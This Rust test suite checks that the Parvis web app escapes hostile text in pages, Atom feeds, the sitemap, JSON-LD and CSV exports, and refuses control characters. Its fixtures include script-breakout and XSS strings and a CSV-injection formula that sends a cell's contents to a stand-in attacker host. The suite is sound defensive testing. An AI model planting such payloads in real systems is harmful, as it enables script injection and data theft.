//! What Parvis writes for others to read holds up against hostile text: script data that no
//! title breaks out of, feeds and the sitemap that every XML parser reads, control characters
//! refused at input, spreadsheet exports that run no formula, and the sharing data (Open Graph,
//! canonical links, schema.org) that search engines require. The hostile strings come from
//! `tests/data/hostile-text.txt`.

mod common;

use common::{
    fiches::{self, newsroom, published_fiche, PASSWORD},
    hostile, TestApp,
};
use parvis::{accounts::types::Role, error::AppError};
use reqwest::Client;
use scraper::{Html, Selector};

/// An app with a host agent of DEVE's first service and a candidate named `candidate_name`;
/// returns the app, the agent's client, the candidate's and the service.
async fn stages_desk(candidate_name: &str) -> (TestApp, Client, Client, i64) {
    let app = TestApp::spawn().await;
    let (agent, service) = host_agent(&app).await;
    let candidate = app.client();
    let signed_up = app
        .call(
            &candidate,
            "accounts/sign_up",
            &[
                ("email", "candidate@example.org"),
                ("display_name", candidate_name),
                ("password", PASSWORD),
            ],
        )
        .await;
    assert_eq!(
        signed_up.status(),
        200,
        "candidate {candidate_name:?} not signed up"
    );
    (app, agent, candidate, service)
}

/// A signed-in host agent of DEVE's first service, and that service.
async fn host_agent(app: &TestApp) -> (Client, i64) {
    let (_, service) = app.direction("DEVE").await;
    app.sign_up("agent@example.org", PASSWORD).await;
    app.grant("agent@example.org", Role::HostAgent, Some(service))
        .await;
    (app.sign_in("agent@example.org", PASSWORD).await, service)
}

fn select<'a>(page: &'a Html, css: &str) -> Vec<scraper::ElementRef<'a>> {
    let selector = Selector::parse(css).unwrap_or_else(|e| panic!("bad selector {css}: {e:?}"));
    page.select(&selector).collect()
}

fn text_of(page: &Html, css: &str) -> Option<String> {
    select(page, css)
        .first()
        .map(|e| e.text().collect::<String>())
}

fn attribute(page: &Html, css: &str, name: &str) -> Option<String> {
    select(page, css)
        .first()
        .and_then(|e| e.value().attr(name))
        .map(str::to_string)
}

/// The page's one JSON-LD block, parsed as a browser's HTML parser delimits it.
fn json_ld(page: &Html) -> serde_json::Value {
    let blocks = select(page, "script[type=\"application/ld+json\"]");
    assert_eq!(blocks.len(), 1, "one JSON-LD block expected");
    let text = blocks[0].text().collect::<String>();
    assert!(!text.contains('<'), "a `<` inside the script: {text}");
    serde_json::from_str(&text).unwrap_or_else(|e| panic!("JSON-LD does not parse ({e}): {text}"))
}

async fn page(client: &Client, url: String) -> Html {
    let response = client.get(&url).send().await.expect("page");
    assert_eq!(response.status(), 200, "{url}");
    Html::parse_document(&response.text().await.expect("html"))
}

#[tokio::test]
async fn a_title_that_opens_a_script_or_a_comment_keeps_its_page() {
    let (app, agent, candidate, service) = stages_desk("Camille").await;
    let breakouts = [
        "<!--<script>",
        "</script>",
        "</SCRIPT >",
        "</ScRiPt\t>",
        "<!--",
        "<script>alert(1)</script>",
        "]]>",
        "\u{2028}",
    ];
    for breakout in breakouts {
        let title = format!("Stage {breakout} vert");
        let id = app.publish_offer(&agent, service, &title).await;
        for (who, client) in [("candidate", &candidate), ("visitor", &app.client())] {
            let html = page(client, app.url(&format!("/stages/offres/{id}"))).await;
            assert_eq!(
                text_of(&html, "article.offer h1").as_deref(),
                Some(title.as_str()),
                "{who}: the title of {breakout:?}"
            );
            assert_eq!(
                text_of(&html, "article.offer .prose")
                    .map(|t| t.trim().to_string())
                    .as_deref(),
                Some("Missions variées."),
                "{who}: the description after {breakout:?}"
            );
            let apply = if who == "candidate" {
                "section.apply form textarea[name=\"cover_letter\"]"
            } else {
                "section.apply a.button"
            };
            assert_eq!(
                select(&html, apply).len(),
                1,
                "{who}: the apply section after {breakout:?}"
            );
            assert_eq!(
                json_ld(&html)["title"].as_str(),
                Some(title.as_str()),
                "{who}: JSON-LD of {breakout:?}"
            );
        }
    }

    // A fiche page the same way.
    let (app, field) = newsroom().await;
    let author = app.sign_in("author@example.org", PASSWORD).await;
    let editor = app.sign_in("editor@example.org", PASSWORD).await;
    let title = "Fiche <!--<script> verte";
    let body = "Le budget participatif laisse les habitants proposer puis choisir par vote des projets d'investissement pour leur quartier.";
    let id = fiches::save(&app, &author, None, &fiches::form(field, title, body))
        .await
        .1
        .expect("saved");
    app.call_json::<()>(&author, "innovation/submit", &[("id", &id.to_string())])
        .await
        .1
        .expect("submitted");
    app.call_json::<()>(
        &editor,
        "innovation/review",
        &[("id", &id.to_string()), ("action", "publish")],
    )
    .await
    .1
    .expect("published");
    let html = page(&app.client(), app.url(&format!("/innovation/fiches/{id}"))).await;
    assert_eq!(text_of(&html, "article.fiche h1").as_deref(), Some(title));
    assert!(text_of(&html, "article.fiche .fiche-body")
        .is_some_and(|t| t.contains("budget participatif")));
    assert_eq!(json_ld(&html)["headline"].as_str(), Some(title));
}

/// Fetches `path` with `client`, checks it is XML of `content_type` and parses it strictly;
/// returns the body.
async fn xml_document(app: &TestApp, client: &Client, path: &str, content_type: &str) -> String {
    let response = client.get(app.url(path)).send().await.expect("document");
    assert_eq!(response.status(), 200, "{path}");
    assert!(
        response
            .headers()
            .get("content-type")
            .and_then(|v| v.to_str().ok())
            .is_some_and(|v| v.starts_with(content_type)),
        "{path}"
    );
    let xml = response.text().await.expect("xml");
    hostile::parse_xml(&xml);
    xml
}

/// The texts of every `name` element of `xml`.
fn texts(xml: &str, name: &str) -> Vec<String> {
    hostile::parse_xml(xml)
        .descendants()
        .filter(|n| n.has_tag_name(name))
        .map(|n| n.text().unwrap_or_default().to_string())
        .collect()
}

#[tokio::test]
async fn every_feed_and_the_sitemap_stay_well_formed_with_hostile_text() {
    let (app, field) = newsroom().await;
    let fiche = published_fiche(&app, field).await;
    let (agent, service) = host_agent(&app).await;
    let member = app.sign_in("other@example.org", PASSWORD).await;
    let markup = "Stage <b>&amp;</b> & ]]> 🌱 שלום";
    let offer = app.publish_offer(&agent, service, markup).await;
    let controlled = app.publish_offer(&agent, service, "Stage à nettoyer").await;
    app.call_json::<i64>(
        &member,
        "innovation/comment",
        &[
            ("fiche", &fiche.to_string()),
            ("body", "Avis <i>&</i> ]]> 🚲 مرحبا"),
        ],
    )
    .await
    .1
    .expect("comment");
    let thread = app
        .call_json::<i64>(
            &member,
            "innovation/thread_start",
            &[
                ("thread[title]", "Question <&> ]]> ?"),
                ("thread[body]", "Qui a essayé ?"),
                ("thread[fields][0]", &field.to_string()),
            ],
        )
        .await
        .1
        .expect("thread");
    app.call_json::<i64>(
        &member,
        "innovation/thread_reply",
        &[("thread", &thread.to_string()), ("body", "Réponse ]]> &")],
    )
    .await
    .1
    .expect("reply");

    // What no form lets in, written straight into the database (as older data could hold).
    let dirty = |text: &str| format!("{text}{}", hostile::CONTROL_CHARACTERS);
    let pool = &app.state.db.pool;
    sqlx::query("UPDATE offers SET title = $1 WHERE id = $2")
        .bind(dirty("Stage à nettoyer"))
        .bind(controlled)
        .execute(pool)
        .await
        .expect("offer");
    sqlx::query("UPDATE users SET display_name = $1 WHERE email = $2")
        .bind(dirty("Autrice <&>"))
        .bind("author@example.org")
        .execute(pool)
        .await
        .expect("author");
    sqlx::query("UPDATE users SET display_name = $1 WHERE email = $2")
        .bind(dirty("Membre ]]>"))
        .bind("other@example.org")
        .execute(pool)
        .await
        .expect("member");
    sqlx::query("UPDATE threads SET title = $1 WHERE id = $2")
        .bind(dirty("Question"))
        .bind(thread)
        .execute(pool)
        .await
        .expect("thread");
    sqlx::query("UPDATE fiche_comments SET body_html = $1")
        .bind(dirty("<p>Avis</p>"))
        .execute(pool)
        .await
        .expect("comment");
    // The fiche's content is JSON: the control character goes in as a JSON escape.
    sqlx::query("UPDATE fiche_revisions SET content = REPLACE(content, $1, $2)")
        .bind("Budget participatif")
        .bind("Budget\\u0001\\u001dparticipatif")
        .execute(pool)
        .await
        .expect("fiche");

    let visitor = app.client();
    let english = Client::builder()
        .default_headers(
            [(
                reqwest::header::COOKIE,
                "parvis_lang=en".parse().expect("cookie"),
            )]
            .into_iter()
            .collect(),
        )
        .build()
        .expect("client");
    let atom = "application/atom+xml";
    let feeds = [
        "/stages/flux.atom".to_string(),
        "/stages/flux.atom?q=sta%01ge".to_string(),
        "/stages/flux.atom?q=%3C%26%5D%5D%3E%1D%C2%85".to_string(),
        "/stages/flux.atom?direction=%01&gratifie=%1F".to_string(),
        "/innovation/flux.atom".to_string(),
        format!("/innovation/flux.atom?champ={field}"),
        "/innovation/flux.atom?champ=%01".to_string(),
        format!("/innovation/fiches/{fiche}/commentaires.atom"),
        "/innovation/discussions.atom".to_string(),
        format!("/innovation/discussions.atom?champ={field}"),
    ];
    for path in &feeds {
        for client in [&visitor, &english] {
            let xml = xml_document(&app, client, path, atom).await;
            assert!(
                !xml.contains(|c: char| parvis::characters::is_refused(c)),
                "{path}: a control character left in\n{xml}"
            );
        }
    }

    let offers = xml_document(&app, &visitor, "/stages/flux.atom", atom).await;
    let titles = texts(&offers, "title");
    assert_eq!(titles[0], "Parvis — offres de stage");
    assert!(
        titles.contains(&markup.to_string()),
        "markup comes back as text: {titles:?}"
    );
    assert!(
        titles.contains(&"Stage à nettoyer".to_string()),
        "control characters stripped: {titles:?}"
    );
    let searched = xml_document(&app, &visitor, "/stages/flux.atom?q=sta%01ge", atom).await;
    assert_eq!(
        texts(&searched, "title")[0],
        "Parvis — offres de stage : « stage »"
    );
    let in_english = xml_document(&app, &english, "/stages/flux.atom?q=jardin", atom).await;
    assert_eq!(
        texts(&in_english, "title")[0],
        "Parvis — internship offers: “jardin”"
    );
    assert!(in_english.contains("xml:lang=\"en\""));
    let innovation = xml_document(&app, &english, "/innovation/flux.atom", atom).await;
    assert_eq!(
        texts(&innovation, "title"),
        ["Parvis — innovation", "Budgetparticipatif"]
    );
    assert_eq!(texts(&innovation, "name"), ["Autrice <&>"]);
    let comments = xml_document(
        &app,
        &visitor,
        &format!("/innovation/fiches/{fiche}/commentaires.atom"),
        atom,
    )
    .await;
    assert_eq!(
        texts(&comments, "summary")
            .iter()
            .map(|s| s.trim())
            .collect::<Vec<_>>(),
        ["Avis"]
    );
    let discussions = xml_document(&app, &english, "/innovation/discussions.atom", atom).await;
    assert_eq!(texts(&discussions, "title")[0], "Parvis — discussions");
    assert!(
        texts(&discussions, "title").contains(&"Membre ]]> — Question".to_string()),
        "{discussions}"
    );
    // Machine dates stay RFC 3339.
    let updated = regex::Regex::new(r"^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(Z|[+-]\d{2}:\d{2})$")
        .expect("regex");
    assert!(
        texts(&offers, "updated")
            .iter()
            .all(|u| updated.is_match(u)),
        "{offers}"
    );

    let sitemap = xml_document(&app, &visitor, "/sitemap.xml", "application/xml").await;
    let locations = texts(&sitemap, "loc");
    for path in [
        format!("/stages/offres/{offer}"),
        format!("/stages/offres/{controlled}"),
        format!("/innovation/fiches/{fiche}"),
    ] {
        assert!(
            locations.contains(&app.url(&path)),
            "{path} missing from {locations:?}"
        );
    }
}

#[tokio::test]
async fn control_characters_are_refused_in_every_text_field() {
    let (app, agent, candidate, service) = stages_desk("Camille").await;
    let offer = app
        .publish_offer(&agent, service, "Stage jardins partagés")
        .await
        .to_string();
    let application = app
        .call_json::<i64>(
            &candidate,
            "stages/apply",
            &[("offer_id", &offer), ("cover_letter", "Motivée.")],
        )
        .await
        .1
        .expect("applied")
        .to_string();
    let (direction, _) = app.direction("DEVE").await;
    app.sign_up("chief@example.org", PASSWORD).await;
    app.grant("chief@example.org", Role::DirectionAdmin, Some(direction))
        .await;
    let chief = app.sign_in("chief@example.org", PASSWORD).await;
    app.sign_up("editor@example.org", PASSWORD).await;
    app.grant("editor@example.org", Role::Editor, None).await;
    let editor = app.sign_in("editor@example.org", PASSWORD).await;
    app.sign_up("admin@example.org", PASSWORD).await;
    app.grant("admin@example.org", Role::SiteAdmin, None).await;
    let admin = app.sign_in("admin@example.org", PASSWORD).await;
    let field = parvis::reference::server::store::load(&app.state.db)
        .await
        .expect("reference")
        .fields[1]
        .id
        .to_string();
    let metier = parvis::reference::server::store::load(&app.state.db)
        .await
        .expect("reference")
        .families[0]
        .metiers[0]
        .id;
    let fiche_id = {
        // A fiche under review, for the editor's comment.
        let form = fiches::form(field.parse().expect("id"), "Vélos partagés", "Un réseau de vélos en libre-service ouvert à toutes et tous, jour et nuit, dans toute la ville.");
        let id = fiches::save(&app, &candidate, None, &form)
            .await
            .1
            .expect("fiche");
        app.call_json::<()>(&candidate, "innovation/submit", &[("id", &id.to_string())])
            .await
            .1
            .expect("submitted");
        id.to_string()
    };
    let thread = app
        .call_json::<i64>(
            &candidate,
            "innovation/thread_start",
            &[
                ("thread[title]", "Une question"),
                ("thread[body]", "Qui a essayé ?"),
                ("thread[fields][0]", &field),
            ],
        )
        .await
        .1
        .expect("thread")
        .to_string();

    // Each case: who posts, to which server function, the form holding the bad text, the field it is in.
    let visitor = app.client();
    let offer_form =
        |title: &str, description: &str| common::offer_fields(service, metier, title, description);
    let fiche_form = |title: &str, tags: &str| -> Vec<(String, String)> {
        let mut form = fiches::form(
            field.parse().expect("id"),
            title,
            "Un réseau de vélos en libre-service ouvert à toutes et tous, jour et nuit.",
        );
        form.retain(|(k, _)| k != "fiche[tags]");
        form.push(("fiche[tags]".into(), tags.into()));
        form
    };
    let pairs = |list: &[(&str, &str)]| {
        list.iter()
            .map(|(k, v)| (k.to_string(), v.to_string()))
            .collect::<Vec<_>>()
    };
    // U+0000 never reaches a server function: the edge refuses it (400, `server::nul_bytes`).
    let nul = app
        .call(
            &visitor,
            "accounts/sign_up",
            &[
                ("email", "new@example.org"),
                ("display_name", "stage\u{0}"),
                ("password", PASSWORD),
            ],
        )
        .await;
    assert_eq!(nul.status(), 400, "U+0000 refused at the edge");
    for bad in [
        "sta\u{1}ge",
        "sta\u{1D}ge",
        "sta\u{7F}ge",
        "sta\u{85}ge",
        "sta\u{FFFF}ge",
    ] {
        let cases: Vec<(&Client, &str, Vec<(String, String)>, &str)> = vec![
            (
                &visitor,
                "accounts/sign_up",
                pairs(&[
                    ("email", "new@example.org"),
                    ("display_name", bad),
                    ("password", PASSWORD),
                ]),
                "display_name",
            ),
            (
                &visitor,
                "accounts/sign_up",
                pairs(&[
                    ("email", &format!("{bad}@example.org")),
                    ("display_name", "Nouvelle"),
                    ("password", PASSWORD),
                ]),
                "email",
            ),
            (
                &agent,
                "stages/save_offer",
                offer_form(&format!("Stage {bad}"), "Missions."),
                "title",
            ),
            (
                &agent,
                "stages/save_offer",
                offer_form("Stage jardins", &format!("Missions {bad}")),
                "description",
            ),
            (
                &candidate,
                "innovation/save",
                fiche_form(&format!("Vélos {bad}"), "vélo"),
                "title",
            ),
            (
                &candidate,
                "innovation/save",
                fiche_form("Vélos partagés", &format!("vélo, {bad}")),
                "tags",
            ),
            (
                &candidate,
                "innovation/thread_start",
                pairs(&[
                    ("thread[title]", &format!("Question {bad}")),
                    ("thread[body]", "Qui ?"),
                    ("thread[fields][0]", &field),
                ]),
                "title",
            ),
            (
                &candidate,
                "innovation/thread_reply",
                pairs(&[("thread", &thread), ("body", bad)]),
                "body",
            ),
            (
                &candidate,
                "innovation/save_profile",
                pairs(&[
                    ("profile[job_title]", "Urbaniste"),
                    ("profile[organisation]", "Ville"),
                    ("profile[city]", "Paris"),
                    ("profile[country]", "France"),
                    ("profile[bio]", bad),
                ]),
                "bio",
            ),
            (
                &candidate,
                "innovation/contact",
                pairs(&[("id", "1"), ("body", bad)]),
                "body",
            ),
            (
                &candidate,
                "stages/candidate_profile",
                pairs(&[("profile[presentation]", bad)]),
                "presentation",
            ),
            (
                &candidate,
                "stages/apply_spontaneously",
                pairs(&[("cover_letter", bad)]),
                "cover_letter",
            ),
            (
                &candidate,
                "stages/application_message",
                pairs(&[("id", &application), ("body", bad)]),
                "body",
            ),
            (
                &agent,
                "stages/application_note",
                pairs(&[("id", &application), ("body", bad)]),
                "body",
            ),
            (
                &chief,
                "stages/save_answer_template",
                pairs(&[
                    ("direction_id", &direction.to_string()),
                    ("state", "declined"),
                    ("body", bad),
                ]),
                "body",
            ),
            (
                &candidate,
                "stages/save_search",
                pairs(&[("query[q]", bad)]),
                "q",
            ),
            (
                &editor,
                "innovation/review",
                pairs(&[
                    ("id", &fiche_id),
                    ("action", "request_changes"),
                    ("comment", bad),
                ]),
                "comment",
            ),
            (
                &editor,
                "innovation/promo_term",
                pairs(&[("term", bad)]),
                "term",
            ),
            (
                &admin,
                "reference/save",
                pairs(&[("kind", "field"), ("name", bad), ("name_en", "Field")]),
                "name",
            ),
        ];
        for (client, endpoint, form, field_name) in cases {
            let form: Vec<(&str, &str)> =
                form.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
            let (status, result) = app
                .call_json::<serde_json::Value>(client, endpoint, &form)
                .await;
            let error: AppError = result.expect_err(&format!("{endpoint} accepted {bad:?}"));
            assert_eq!(
                (status, error.field_key(field_name)),
                (422, Some("field-characters")),
                "{endpoint} {field_name} with {bad:?}: {error:?}"
            );
        }
    }
    // Tabs and line breaks stay welcome in long texts.
    app.call_json::<()>(
        &candidate,
        "stages/application_message",
        &[("id", &application), ("body", "Bonjour,\r\n\tmerci.\n")],
    )
    .await
    .1
    .expect("message with tab and newlines");
}

#[tokio::test]
async fn every_csv_route_neutralises_formulas_and_the_json_keeps_raw_values() {
    let formula = "=HYPERLINK(\"https://evil.example/?x=\"&G2,\"CV\")";
    let (app, agent, candidate, service) = stages_desk(formula).await;
    let mut expected = vec![formula.to_string()];
    for title in [
        "+Stage formule",
        "-Stage formule",
        "@Stage formule",
        "=1+1 Stage",
    ] {
        let offer = app.publish_offer(&agent, service, title).await.to_string();
        app.call_json::<i64>(
            &candidate,
            "stages/apply",
            &[("offer_id", &offer), ("cover_letter", "Motivée.")],
        )
        .await
        .1
        .expect("applied");
        expected.push(title.to_string());
    }
    let export = agent
        .get(app.url("/stages/export.csv"))
        .send()
        .await
        .expect("export");
    assert_eq!(export.status(), 200);
    let body = export.text().await.expect("csv");
    assert_eq!(
        hostile::formula_cells(&body),
        Vec::<String>::new(),
        "{body}"
    );
    let cells: Vec<String> = csv::Reader::from_reader(body.as_bytes())
        .records()
        .flat_map(|r| {
            r.expect("record")
                .iter()
                .map(str::to_string)
                .collect::<Vec<_>>()
        })
        .collect();
    for value in &expected {
        assert!(
            cells.contains(&format!("'{value}")),
            "{value} not neutralised in {body}"
        );
    }

    // The innovation open data: a fiche whose title and author's name are formulas.
    let (app, field) = newsroom().await;
    sqlx::query("UPDATE users SET display_name = $1 WHERE email = $2")
        .bind("@SUM(1+1)")
        .bind("author@example.org")
        .execute(&app.state.db.pool)
        .await
        .expect("name");
    let author = app.sign_in("author@example.org", PASSWORD).await;
    let editor = app.sign_in("editor@example.org", PASSWORD).await;
    let body_text = "Le budget participatif laisse les habitants proposer puis choisir par vote des projets d'investissement pour leur quartier.";
    let id = fiches::save(
        &app,
        &author,
        None,
        &fiches::form(field, formula, body_text),
    )
    .await
    .1
    .expect("saved");
    app.call_json::<()>(&author, "innovation/submit", &[("id", &id.to_string())])
        .await
        .1
        .expect("submitted");
    app.call_json::<()>(
        &editor,
        "innovation/review",
        &[
            ("id", &id.to_string()),
            ("action", "publish"),
            ("acknowledge", "on"),
        ],
    )
    .await
    .1
    .expect("published");
    let body = app
        .client()
        .get(app.url("/innovation/donnees.csv"))
        .send()
        .await
        .expect("csv")
        .text()
        .await
        .expect("body");
    assert_eq!(
        hostile::formula_cells(&body),
        Vec::<String>::new(),
        "{body}"
    );
    assert!(
        body.contains("'@SUM(1+1)") && body.contains("\"'=HYPERLINK("),
        "{body}"
    );
    let json: serde_json::Value = app
        .client()
        .get(app.url("/innovation/donnees.json"))
        .send()
        .await
        .expect("json")
        .json()
        .await
        .expect("json body");
    assert_eq!(
        (
            json["fiches"][0]["title"].as_str(),
            json["fiches"][0]["author"].as_str()
        ),
        (Some(formula), Some("@SUM(1+1)")),
        "raw values for programs"
    );
}

/// The page's `<meta property=…>` content.
fn og(page: &Html, property: &str) -> Option<String> {
    attribute(page, &format!("meta[property=\"{property}\"]"), "content")
}

#[tokio::test]
async fn offers_and_fiches_carry_sharing_data_and_the_sitemap_lists_open_offers() {
    let (app, field) = newsroom().await;
    let fiche = published_fiche(&app, field).await;
    let (agent, service) = host_agent(&app).await;
    let offer = app
        .publish_offer(&agent, service, "Stage jardins partagés")
        .await;
    // Paid: the offer's own form box.
    sqlx::query("UPDATE offers SET paid = 1 WHERE id = $1")
        .bind(offer)
        .execute(&app.state.db.pool)
        .await
        .expect("paid");

    // The Host header never makes the addresses: they come from server.public_url.
    let visitor = app.client();
    let response = visitor
        .get(app.url(&format!("/stages/offres/{offer}")))
        .header("x-forwarded-host", "evil.example")
        .send()
        .await
        .expect("page");
    let html = Html::parse_document(&response.text().await.expect("html"));
    let url = app.url(&format!("/stages/offres/{offer}"));
    assert_eq!(
        attribute(&html, "link[rel=\"canonical\"]", "href"),
        Some(url.clone())
    );
    assert_eq!(og(&html, "og:url"), Some(url.clone()));
    assert_eq!(
        og(&html, "og:title").as_deref(),
        Some("Stage jardins partagés")
    );
    assert_eq!(
        og(&html, "og:description").as_deref(),
        Some("Missions variées.")
    );
    assert_eq!(og(&html, "og:type").as_deref(), Some("website"));
    assert_eq!(og(&html, "og:image"), Some(app.url("/partage.png")));
    let posting = json_ld(&html);
    let iso = regex::Regex::new(r"^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(Z|[+-]\d{2}:\d{2})$")
        .expect("regex");
    assert_eq!(posting["@type"], "JobPosting");
    for required in [
        "title",
        "description",
        "datePosted",
        "hiringOrganization",
        "jobLocation",
        "validThrough",
        "identifier",
        "directApply",
        "employmentType",
        "baseSalary",
    ] {
        assert!(
            !posting[required].is_null(),
            "JobPosting lacks {required}: {posting}"
        );
    }
    assert!(
        posting["datePosted"]
            .as_str()
            .is_some_and(|d| iso.is_match(d)),
        "{posting}"
    );
    assert_eq!(posting["validThrough"], "2099-01-31");
    assert_eq!(posting["identifier"]["value"], offer.to_string());
    assert_eq!(posting["directApply"], true);
    assert!(posting["hiringOrganization"]["name"]
        .as_str()
        .is_some_and(|n| n.contains("DEVE")));
    assert_eq!(
        (
            posting["jobLocation"]["address"]["addressLocality"].as_str(),
            posting["jobLocation"]["address"]["postalCode"].as_str()
        ),
        (Some("Paris"), Some("75004"))
    );
    assert_eq!(
        (
            posting["baseSalary"]["currency"].as_str(),
            posting["baseSalary"]["value"]["unitText"].as_str()
        ),
        (Some("EUR"), Some("HOUR"))
    );
    sqlx::query("UPDATE offers SET paid = 0 WHERE id = $1")
        .bind(offer)
        .execute(&app.state.db.pool)
        .await
        .expect("unpaid");
    let unpaid = json_ld(&page(&visitor, url.clone()).await);
    assert!(
        unpaid["baseSalary"].is_null(),
        "no salary for an unpaid internship: {unpaid}"
    );

    let html = page(&visitor, app.url(&format!("/innovation/fiches/{fiche}"))).await;
    let url = app.url(&format!("/innovation/fiches/{fiche}"));
    assert_eq!(
        attribute(&html, "link[rel=\"canonical\"]", "href"),
        Some(url.clone())
    );
    assert_eq!(
        (
            og(&html, "og:url"),
            og(&html, "og:image"),
            og(&html, "og:type").as_deref()
        ),
        (
            Some(url.clone()),
            Some(app.url("/partage.png")),
            Some("article")
        )
    );
    let article = json_ld(&html);
    assert_eq!(article["@type"], "Article");
    for required in [
        "headline",
        "image",
        "datePublished",
        "dateModified",
        "author",
    ] {
        assert!(
            !article[required].is_null(),
            "Article lacks {required}: {article}"
        );
    }
    assert!(
        article["datePublished"]
            .as_str()
            .is_some_and(|d| iso.is_match(d))
            && article["dateModified"]
                .as_str()
                .is_some_and(|d| iso.is_match(d)),
        "{article}"
    );
    assert_eq!(article["author"]["name"], "Test User");
    // A fiche with an image shares its first one.
    let author = app.sign_in("author@example.org", PASSWORD).await;
    let editor = app.sign_in("editor@example.org", PASSWORD).await;
    let body = "Des jardins creusés sous les trottoirs boivent la pluie des rues voisines.\n\n![Un jardin de pluie](/innovation/images/jardin.png)\n\n![Un autre](/innovation/images/second.png)";
    let pictured = fiches::save(
        &app,
        &author,
        None,
        &fiches::form(field, "Jardins de pluie", body),
    )
    .await
    .1
    .expect("saved");
    app.call_json::<()>(
        &author,
        "innovation/submit",
        &[("id", &pictured.to_string())],
    )
    .await
    .1
    .expect("submitted");
    app.call_json::<()>(
        &editor,
        "innovation/review",
        &[
            ("id", &pictured.to_string()),
            ("action", "publish"),
            ("acknowledge", "on"),
        ],
    )
    .await
    .1
    .expect("published");
    let html = page(&visitor, app.url(&format!("/innovation/fiches/{pictured}"))).await;
    let image = app.url("/innovation/images/jardin.png");
    assert_eq!(
        (og(&html, "og:image"), json_ld(&html)["image"][0].as_str()),
        (Some(image.clone()), Some(image.as_str()))
    );

    // The sitemap lists offers taking applications only; robots.txt points to it.
    let draft = {
        let id = app
            .publish_offer(&agent, service, "Stage bientôt fermé")
            .await;
        sqlx::query("UPDATE offers SET state = 'draft' WHERE id = $1")
            .bind(id)
            .execute(&app.state.db.pool)
            .await
            .expect("draft");
        id
    };
    let closed = app.publish_offer(&agent, service, "Stage fermé").await;
    sqlx::query("UPDATE offers SET state = 'closed' WHERE id = $1")
        .bind(closed)
        .execute(&app.state.db.pool)
        .await
        .expect("closed");
    let past = app.publish_offer(&agent, service, "Stage passé").await;
    sqlx::query("UPDATE offers SET deadline = '2000-01-31' WHERE id = $1")
        .bind(past)
        .execute(&app.state.db.pool)
        .await
        .expect("past");
    let sitemap = xml_document(&app, &visitor, "/sitemap.xml", "application/xml").await;
    let locations = texts(&sitemap, "loc");
    assert!(
        locations.contains(&app.url(&format!("/stages/offres/{offer}")))
            && locations.contains(&app.url(&format!("/innovation/fiches/{fiche}"))),
        "{locations:?}"
    );
    for hidden in [draft, closed, past] {
        assert!(
            !locations.contains(&app.url(&format!("/stages/offres/{hidden}"))),
            "offer {hidden} should not be listed: {locations:?}"
        );
    }
    let robots = visitor
        .get(app.url("/robots.txt"))
        .send()
        .await
        .expect("robots");
    assert_eq!(robots.status(), 200);
    let robots = robots.text().await.expect("text");
    assert!(
        robots
            .lines()
            .any(|l| l == format!("Sitemap: {}", app.url("/sitemap.xml"))),
        "{robots}"
    );
}
